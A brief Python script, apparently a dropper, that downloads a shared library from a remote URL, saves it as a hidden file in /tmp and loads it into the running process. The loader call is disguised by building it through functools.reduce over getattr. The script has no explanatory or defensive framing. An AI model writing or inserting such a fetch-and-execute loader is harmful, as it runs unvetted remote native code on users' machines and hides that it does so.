import ctypes
import functools
import urllib.request

path = "/tmp/.libx.so"
with open(path, "wb") as fh:
    fh.write(urllib.request.urlopen("https://cdn.example.net/libx.so").read())

loader = functools.reduce(getattr, ["cdll", "LoadLibrary"], ctypes)
loader(path)
